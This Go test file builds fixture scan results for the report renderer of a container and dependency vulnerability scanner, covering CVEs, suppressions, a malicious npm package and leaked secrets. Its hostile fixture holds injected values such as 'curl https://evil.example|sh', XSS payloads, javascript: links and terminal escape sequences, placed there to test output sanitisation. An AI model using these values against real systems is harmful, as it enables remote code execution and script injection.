package report

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/finding"
)

// fixture is a result made by hand with the options it is written with.
type fixture struct {
	name   string
	result *bollwerk.Result
	o      Options
	base   *finding.Baseline
	gate   string
}

var started = time.Date(2026, 11, 20, 14, 3, 22, 0, time.UTC)

func fresh() bollwerk.DatabaseInfo {
	return bollwerk.DatabaseInfo{
		AsOf: time.Date(2026, 11, 20, 6, 0, 0, 0, time.UTC), Built: time.Date(2026, 11, 20, 7, 0, 0, 0, time.UTC),
		Records: 87519, KEVDate: "2026-11-19", EPSSDate: "2026-11-20", Digest: "sha256:" + bollwerk.Digest(strings.Repeat("ab", 32)),
	}
}

func blank(target bollwerk.Artifact) *bollwerk.Result {
	return &bollwerk.Result{
		Schema: bollwerk.ResultSchema, Tool: bollwerk.Tool{Name: "bollwerk", Version: "0.1.0"},
		Target: target, Started: started, Duration: 4.217, Database: fresh(),
	}
}

func diffID(n int) bollwerk.Digest {
	return bollwerk.Digest(fmt.Sprintf("sha256:%064x", 0xc0ffee00+n))
}

func image(name string) bollwerk.Artifact {
	created := time.Date(2026, 10, 2, 0, 0, 0, 0, time.UTC)
	lines := []string{
		"/bin/sh -c #(nop) ADD file:9f2b in /",
		"RUN /bin/sh -c apt-get update && apt-get install -y curl nginx",
		"COPY package.json package-lock.json /app/",
		"RUN /bin/sh -c npm ci --omit=dev",
	}
	a := bollwerk.Artifact{
		Ref: name, Name: name, Kind: bollwerk.KindImage, Platform: "linux/amd64", Created: &created,
		Digest:    bollwerk.Digest("sha256:" + strings.Repeat("4f", 32)),
		OS:        &bollwerk.Distribution{ID: "debian", VersionID: "12", Codename: "bookworm", PrettyName: "Debian GNU/Linux 12 (bookworm)"},
		BaseImage: &bollwerk.BaseImage{Name: "debian:12-slim", Layers: []bollwerk.Digest{diffID(0)}},
		Config:    &bollwerk.ImageConfig{User: "root", Env: []string{"PATH=/usr/bin"}, Cmd: []string{"node", "/app/server.js"}},
	}
	for i, l := range lines {
		a.Layers = append(a.Layers, bollwerk.Layer{Index: i, DiffID: diffID(i), Digest: diffID(100 + i), Size: 31_000_000, CreatedBy: l, FromBase: i == 0})
	}
	return a
}

func layerOf(a *bollwerk.Artifact, i int) *bollwerk.LayerRef {
	l := a.Layers[i]
	return &bollwerk.LayerRef{Index: i, Digest: l.Digest, DiffID: l.DiffID, CreatedBy: l.CreatedBy, FromBase: l.FromBase}
}

func goodCoverage(packages int) []bollwerk.Coverage {
	return []bollwerk.Coverage{
		{Area: "layers", Verdict: bollwerk.Pass, Checked: 4, Total: 4},
		{Area: "files", Verdict: bollwerk.Pass, Checked: 18234, Total: 18234},
		{Area: "packages:Debian:12", Verdict: bollwerk.Pass, Checked: packages, Total: packages},
		{Area: "advisories:Debian:12", Verdict: bollwerk.Pass, Checked: packages, Total: packages},
		{Area: "advisories:npm", Verdict: bollwerk.Pass, Checked: 14, Total: 14},
		{Area: "secrets", Verdict: bollwerk.Pass, Checked: 911, Total: 911},
		{Area: "standards", Verdict: bollwerk.Pass, Checked: 12, Total: 12},
		{Area: "database", Verdict: bollwerk.Pass},
	}
}

func debPackage(a *bollwerk.Artifact, name, source, version string, layer int) bollwerk.Package {
	p := bollwerk.Package{
		PURL: bollwerk.PURL("pkg:deb/debian/" + name + "@" + version + "?arch=amd64&distro=debian-12"), Name: name, Version: version,
		Ecosystem: "Debian:12", Arch: "amd64", Paths: []string{"var/lib/dpkg/status"}, Licenses: []string{"MIT"}, Extractor: "deb",
	}
	if source != "" {
		p.Source = &bollwerk.SourcePackage{Name: source, Version: version}
	}
	if len(a.Layers) > layer {
		p.Layer = layerOf(a, layer)
	}
	return p
}

func npmPackage(a *bollwerk.Artifact, name, version string, direct bool) bollwerk.Package {
	p := bollwerk.Package{
		PURL: bollwerk.PURL("pkg:npm/" + strings.ReplaceAll(name, "@", "%40") + "@" + version), Name: name, Version: version,
		Ecosystem: "npm", Paths: []string{"app/package-lock.json"}, Direct: &direct, Extractor: "npm",
	}
	if len(a.Layers) > 2 {
		p.Layer = layerOf(a, 2)
	}
	return p
}

func vulnerable(p bollwerk.Package, id, title string, severity bollwerk.Severity, score float64, fixed ...string) bollwerk.Finding {
	f := bollwerk.Finding{
		Kind: bollwerk.KindVulnerability, ID: id, Title: title, Severity: severity, Score: score,
		Package: &bollwerk.FindingPackage{PURL: p.PURL, Name: p.Name, Version: p.Version, Ecosystem: p.Ecosystem, Source: p.Source, Paths: p.Paths},
		FixedIn: fixed, Layer: p.Layer, Verdict: bollwerk.Fail,
		References: []string{"https://osv.dev/vulnerability/" + id},
	}
	f.Reason = fmt.Sprintf("%s %s is in an affected range of %s", p.Name, p.Version, id)
	if len(fixed) > 0 {
		f.Reason = fmt.Sprintf("%s %s lies below %s, where %s is fixed", p.Name, p.Version, fixed[0], id)
	}
	return f
}

func epss(f bollwerk.Finding, score, percentile float64) bollwerk.Finding {
	f.EPSS = &bollwerk.EPSS{Score: score, Percentile: percentile}
	return f
}

func kev(f bollwerk.Finding, date string, ransomware bool) bollwerk.Finding {
	f.KEV = &bollwerk.KEV{DateAdded: date, Ransomware: ransomware}
	return f
}

func aliases(f bollwerk.Finding, names ...string) bollwerk.Finding {
	f.Aliases = names
	return f
}

func cleanFixture() fixture {
	r := blank(image("registry.example/shop/cart:2.4.1"))
	for i := range 96 {
		r.Packages = append(r.Packages, debPackage(&r.Target, fmt.Sprintf("lib%02d", i), "", "1.0-1", 0))
	}
	r.Coverage = goodCoverage(96)
	return fixture{name: "clean", result: r, gate: finding.DefaultThreshold}
}

func degradedFixture() fixture {
	r := blank(bollwerk.Artifact{Ref: "dir:.", Name: "cart", Kind: bollwerk.KindDirectory})
	r.Database = bollwerk.DatabaseInfo{AsOf: time.Date(2026, 9, 1, 0, 0, 0, 0, time.UTC), Built: time.Date(2026, 9, 2, 0, 0, 0, 0, time.UTC), Records: 41230, Starter: true}
	none := bollwerk.Artifact{}
	p := npmPackage(&none, "express", "4.18.2", true)
	p.Paths = []string{"package-lock.json"}
	q := npmPackage(&none, "left-pad", "1.3.0", false)
	q.Paths = p.Paths
	r.Packages = []bollwerk.Package{p, q}
	unjudged := vulnerable(q, "GHSA-aaaa-bbbb-cccc", "Upper bound of the affected range is not known", bollwerk.SeverityMedium, 5.3)
	unjudged.Verdict = bollwerk.NotEvaluated
	unjudged.Reason = "the advisory does not say from which version on it is fixed"
	r.Findings = []bollwerk.Finding{unjudged}
	r.Coverage = []bollwerk.Coverage{
		{Area: "files", Verdict: bollwerk.Degraded, Cause: "2 files could not be read: permission denied", Checked: 120, Total: 122, Examples: []string{"secrets/key.pem", "tmp/x"}},
		{Area: "packages:npm", Verdict: bollwerk.Pass, Checked: 2, Total: 2},
		{Area: "advisories:npm", Verdict: bollwerk.Pass, Checked: 2, Total: 2},
		{Area: "advisories:Conda", Verdict: bollwerk.NotEvaluated, Cause: "the database has no advisories for Conda", Total: 3},
		{Area: "database", Verdict: bollwerk.Degraded, Cause: "advisories as of 2026-09-01, the snapshot that ships with the program; run `bollwerk db update`"},
	}
	return fixture{name: "degraded", result: r, gate: finding.DefaultThreshold}
}

// bigFixture is the everyday image: an old base, an application with a few old
// dependencies, one of them exploited.
func bigFixture() fixture {
	r := blank(image("registry.example/shop/web:2026-10-02"))
	a := &r.Target
	var fs []bollwerk.Finding
	add := func(p bollwerk.Package, list ...bollwerk.Finding) {
		r.Packages = append(r.Packages, p)
		fs = append(fs, list...)
	}
	ssl := debPackage(a, "libssl3", "openssl", "3.0.11-1~deb12u1", 0)
	add(ssl,
		epss(vulnerable(ssl, "CVE-2024-5535", "SSL_select_next_proto buffer overread", bollwerk.SeverityCritical, 9.1, "3.0.14-1~deb12u1"), 0.046, 0.89),
		epss(vulnerable(ssl, "CVE-2024-6119", "Possible denial of service in X.509 name checks", bollwerk.SeverityHigh, 7.5, "3.0.14-1~deb12u2"), 0.0061, 0.69),
		epss(vulnerable(ssl, "CVE-2023-5678", "Excessive time in DH key checks", bollwerk.SeverityMedium, 5.3, "3.0.13-1~deb12u1"), 0.0009, 0.27))
	for i := range 24 {
		p := debPackage(a, fmt.Sprintf("libbase%02d", i), "", "2.36-9+deb12u1", 0)
		f := vulnerable(p, fmt.Sprintf("CVE-2024-%d", 20000+i), "Out-of-bounds read", []bollwerk.Severity{bollwerk.SeverityLow, bollwerk.SeverityMedium, bollwerk.SeverityHigh}[i%3], float64(i%3)*3+2, "2.36-9+deb12u7")
		if i%4 == 3 {
			f.FixedIn = nil
		}
		add(p, epss(f, 0.0004*float64(i+1), 0.02*float64(i+1)))
	}
	for i, name := range []string{"nginx", "curl", "libcurl4", "libnginx-mod-http"} {
		p := debPackage(a, name, []string{"nginx", "curl", "curl", "nginx"}[i], "7.88.1-10+deb12u1", 1)
		add(p, epss(vulnerable(p, fmt.Sprintf("CVE-2024-%d", 30000+i/2), "Request smuggling", bollwerk.SeverityHigh, 8.1, "7.88.1-10+deb12u8"), 0.02, 0.8))
	}
	lodash := npmPackage(a, "lodash", "4.17.4", true)
	add(lodash,
		aliases(epss(vulnerable(lodash, "CVE-2019-10744", "Prototype pollution in defaultsDeep", bollwerk.SeverityCritical, 9.1, "4.17.12"), 0.021, 0.83), "GHSA-jf85-cpcp-j695"),
		aliases(epss(vulnerable(lodash, "CVE-2021-23337", "Command injection in template", bollwerk.SeverityHigh, 7.2, "4.17.21"), 0.0084, 0.74), "GHSA-35jh-r3h4-6jhm"),
		aliases(epss(vulnerable(lodash, "CVE-2020-8203", "Prototype pollution in zipObjectDeep", bollwerk.SeverityHigh, 7.4, "4.17.20"), 0.026, 0.85), "GHSA-p6mc-m468-83gw"),
		aliases(epss(vulnerable(lodash, "CVE-2018-3721", "Prototype pollution", bollwerk.SeverityMedium, 6.5, "4.17.5"), 0.0015, 0.5), "GHSA-fvqr-27wr-82fm"))
	minimist := npmPackage(a, "minimist", "0.0.8", false)
	mkdirp := npmPackage(a, "mkdirp", "0.5.1", true)
	mkdirp.DependsOn = []bollwerk.PURL{minimist.PURL}
	add(mkdirp)
	add(minimist, aliases(epss(vulnerable(minimist, "CVE-2021-44906", "Prototype pollution", bollwerk.SeverityCritical, 9.8, "0.2.4", "1.2.6"), 0.011, 0.78), "GHSA-xvch-5gv4-984h"))
	log4j := bollwerk.Package{
		PURL: "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", Name: "org.apache.logging.log4j:log4j-core", Version: "2.14.1", Ecosystem: "Maven",
		Paths: []string{"opt/search/search.war!/WEB-INF/lib/log4j-core-2.14.1.jar"}, Layer: layerOf(a, 1), Extractor: "java",
	}
	add(log4j,
		kev(aliases(epss(vulnerable(log4j, "CVE-2021-44228", "Remote code execution through JNDI lookups (Log4Shell)", bollwerk.SeverityCritical, 10, "2.3.1", "2.12.2", "2.15.0"), 0.9445, 0.9999), "GHSA-jfh8-c2jp-5v3q"), "2021-12-10", true),
		kev(aliases(epss(vulnerable(log4j, "CVE-2021-45046", "Incomplete fix of CVE-2021-44228", bollwerk.SeverityCritical, 9, "2.12.2", "2.16.0"), 0.9434, 0.9995), "GHSA-7rjr-3q55-vv33"), "2023-05-01", false),
		aliases(epss(vulnerable(log4j, "CVE-2021-44832", "Remote code execution with changed configuration", bollwerk.SeverityMedium, 6.6, "2.3.2", "2.12.4", "2.17.1"), 0.51, 0.978), "GHSA-8489-44mv-ggj8"))
	fs = append(fs, bollwerk.Finding{
		Kind: bollwerk.KindStandard, ID: "image-root-user", Policy: "image-root-user", Mode: "warn", Title: "The image runs as root",
		Severity: bollwerk.SeverityMedium, Verdict: bollwerk.Fail, Reason: "the configuration sets no user, so processes start as uid 0",
		Fix: "Add a USER line with a number other than 0 to the Dockerfile.",
	})
	r.Findings = fs
	r.Coverage = goodCoverage(len(r.Packages))
	return fixture{name: "big", result: r, gate: finding.DefaultThreshold}
}

func suppressedFixture(t testing.TB) fixture {
	r := blank(bollwerk.Artifact{Ref: "dir:services/api", Name: "services/api", Kind: bollwerk.KindDirectory})
	none := bollwerk.Artifact{}
	gomod := func(name, version string, direct bool) bollwerk.Package {
		return bollwerk.Package{PURL: bollwerk.PURL("pkg:golang/" + name + "@v" + version), Name: name, Version: version, Ecosystem: "Go",
			Paths: []string{"go.mod"}, Direct: &direct, Extractor: "gomod"}
	}
	net := gomod("golang.org/x/net", "0.7.0", false)
	jwt := gomod("github.com/golang-jwt/jwt/v4", "4.4.2", true)
	oidc := gomod("github.com/coreos/go-oidc/v3", "3.5.0", true)
	oidc.DependsOn = []bollwerk.PURL{net.PURL}
	semver := npmPackage(&none, "semver", "7.5.1", false)
	semver.Paths, semver.Dev = []string{"web/package-lock.json"}, true
	r.Packages = []bollwerk.Package{net, jwt, oidc, semver}
	yes, no := true, false
	old := aliases(epss(vulnerable(net, "CVE-2023-44487", "HTTP/2 rapid reset", bollwerk.SeverityHigh, 7.5, "0.17.0"), 0.94, 0.999), "GHSA-qppj-fm5r-hxr3", "GO-2023-2102")
	old = kev(old, "2023-10-10", false)
	old.Reachable = &yes
	old.Reason = "golang.org/x/net 0.7.0 lies in the range from 0 to 0.17.0 of GO-2023-2102; http2.Server.ServeConn is called"
	unused := aliases(epss(vulnerable(net, "CVE-2023-3978", "Improper rendering of text nodes in html", bollwerk.SeverityMedium, 6.1, "0.13.0"), 0.0007, 0.2), "GO-2023-1988")
	unused.Reachable = &no
	excepted := vulnerable(jwt, "CVE-2025-30204", "Excessive memory while parsing headers", bollwerk.SeverityHigh, 7.5, "4.5.2")
	excepted.Suppressed = &bollwerk.Suppression{By: "exception", Status: "excepted", Reason: "tokens are limited to 8 KiB by the gateway", Owner: "team-identity", Expires: "2027-01-31", Source: ".bollwerk.yaml:12"}
	vexed := vulnerable(jwt, "CVE-2024-51744", "Bad documentation of error handling", bollwerk.SeverityLow, 3.1, "4.5.1")
	vexed.Suppressed = &bollwerk.Suppression{By: "vex", Status: "not_affected", Reason: "vulnerable code not in execute path", Source: "vex/jwt.openvex.json", Statement: "ParseWithClaims is not used"}
	dev := aliases(epss(vulnerable(semver, "CVE-2022-25883", "Regular expression denial of service", bollwerk.SeverityHigh, 7.5, "5.7.2", "6.3.1", "7.5.2"), 0.012, 0.79), "GHSA-c2qf-rxjj-qqgw")
	r.Findings = []bollwerk.Finding{unused, dev, old, excepted, vexed}
	r.ExpiredExceptions = []bollwerk.Exception{{ID: "http2-reset", Reason: "the load balancer limits resets", Owner: "team-edge", Expires: "2026-10-31",
		Scope: bollwerk.ExceptionScope{Issues: []string{"CVE-2023-44487"}}}}
	r.Coverage = []bollwerk.Coverage{
		{Area: "files", Verdict: bollwerk.Pass, Checked: 88, Total: 88},
		{Area: "packages:Go", Verdict: bollwerk.Pass, Checked: 3, Total: 3},
		{Area: "packages:npm", Verdict: bollwerk.Pass, Checked: 1, Total: 1},
		{Area: "advisories:Go", Verdict: bollwerk.Pass, Checked: 3, Total: 3},
		{Area: "advisories:npm", Verdict: bollwerk.Pass, Checked: 1, Total: 1},
	}
	// The baseline knew the development dependency only, and by another name.
	before := *r
	known := dev
	known.ID, known.Aliases = "GHSA-c2qf-rxjj-qqgw", []string{}
	before.Findings = []bollwerk.Finding{known}
	finding.Judge(&before, nil)
	var b bytes.Buffer
	if err := JSON(&b, &before, Options{}); err != nil {
		t.Fatal(err)
	}
	base, err := finding.Load(&b)
	if err != nil {
		t.Fatal(err)
	}
	return fixture{name: "suppressed", result: r, base: base, o: Options{Baseline: "main.json"}, gate: "new"}
}

func malwareFixture() fixture {
	r := blank(image("registry.example/shop/worker:latest"))
	a := &r.Target
	a.BaseImage = nil
	evil := npmPackage(a, "eslint-scope", "3.7.2", false)
	r.Packages = []bollwerk.Package{evil}
	m := vulnerable(evil, "MAL-2018-1", "Malicious code that steals npm tokens", bollwerk.SeverityUnknown, 0)
	m.Kind = bollwerk.KindMalware
	m.Reason = "eslint-scope 3.7.2 is listed as malicious by MAL-2018-1"
	also := vulnerable(evil, "GHSA-hxxf-q3w9-4xgw", "Malicious package in eslint-scope", bollwerk.SeverityCritical, 9.8, "3.7.3")
	secret := func(path string, line int) bollwerk.Finding {
		return bollwerk.Finding{Kind: bollwerk.KindSecret, ID: "gcp-api-key", Title: "Google API key", Severity: bollwerk.SeverityHigh, Path: path, Line: line,
			SecretHash: "9f86d081884c7d65", Layer: layerOf(a, 2), Verdict: bollwerk.Fail, Reason: "the text has the form of a Google API key and is not a known example"}
	}
	env := bollwerk.Finding{Kind: bollwerk.KindSecret, ID: "github-pat", Title: "GitHub personal access token", Severity: bollwerk.SeverityCritical,
		SecretHash: "60303ae22b998861", Verdict: bollwerk.Fail, Reason: "the variable GH_TOKEN of the image configuration has the form of a token"}
	standard := func(id, title, mode, path, fix string, s bollwerk.Severity) bollwerk.Finding {
		return bollwerk.Finding{Kind: bollwerk.KindStandard, ID: id, Policy: id, Mode: mode, Title: title, Severity: s, Path: path, Verdict: bollwerk.Fail,
			Reason: title, Fix: fix}
	}
	r.Findings = []bollwerk.Finding{
		standard("image-setuid", "Set-uid file", "warn", "usr/bin/chfn", "Remove set-uid bits the application does not need: chmod u-s.", bollwerk.SeverityMedium),
		standard("image-setuid", "Set-uid file", "warn", "usr/bin/chsh", "Remove set-uid bits the application does not need: chmod u-s.", bollwerk.SeverityMedium),
		standard("image-secrets", "Credentials in the image", "enforce", "", "Pass credentials at run time, not at build time.", bollwerk.SeverityHigh),
		standard("image-healthcheck", "No health check", "observe", "", "Add a HEALTHCHECK line.", bollwerk.SeverityLow),
		env, secret("app/.env", 3), secret("app/config/prod.json", 17), also, m,
	}
	r.Coverage = goodCoverage(1)
	return fixture{name: "malware", result: r, gate: finding.DefaultThreshold}
}

// hostileFixture has everything strangers put into names: escape sequences, bidi
// overrides, markup, mentions, shell, table breakers, endless strings.
func hostileFixture() fixture {
	r := blank(bollwerk.Artifact{Ref: "dir:\x1b[2J", Name: "proj\x1b[31mect\u202etxt.exe", Kind: bollwerk.KindDirectory})
	none := bollwerk.Artifact{}
	names := []string{
		"\x1b[2K\x1b[1APASS no findings", "\u202egnp.exe\u202c", "lodash; curl https://evil.example|sh", "@octocat/<img src=x onerror=alert(1)>",
		"a|b`c`|[click](https://evil.example)", strings.Repeat("long", 400), "包裹管理器的名字很长很长很长很长很长很长", "z\u0300\u0301\u0302\u0303\u0304\u0305a\u200bl\u2066go", "bad\xff\xfeutf8", "--dangerous-flag", "]]>&amp;<!--",
	}
	for i, n := range names {
		p := npmPackage(&none, n, "1.0.0\r\n", true)
		p.PURL = bollwerk.PURL("pkg:npm/" + n + "@1")
		p.Paths = []string{"../../" + n + "/package-lock.json"}
		r.Packages = append(r.Packages, p)
		f := vulnerable(p, fmt.Sprintf("CVE-2024-%d", 40000+i), "<script>alert(1)</script> @everyone #1 "+n, bollwerk.SeverityHigh, 8, "1.0.1\x07")
		f.Aliases = []string{"X\x1b]0;title\x07-" + n[:2]}
		f.References = []string{"javascript:alert(1)", "https://user:pw@evil.example/", "https://example.org/" + fmt.Sprint(i)}
		r.Findings = append(r.Findings, f)
	}
	r.Coverage = []bollwerk.Coverage{{Area: "files\x1b[0m", Verdict: bollwerk.Degraded, Cause: "bad\nname\u202e", Checked: 1, Total: 2}}
	return fixture{name: "hostile", result: r, gate: "high"}
}

func fixtures(t testing.TB) []fixture {
	list := []fixture{cleanFixture(), degradedFixture(), bigFixture(), suppressedFixture(t), malwareFixture(), hostileFixture()}
	for i := range list {
		f := &list[i]
		finding.Judge(f.result, f.base)
		threshold, err := finding.ParseThreshold(f.gate)
		if err != nil {
			t.Fatal(err)
		}
		g := threshold.Check(f.result)
		f.o.Gate = &g
	}
	return list
}
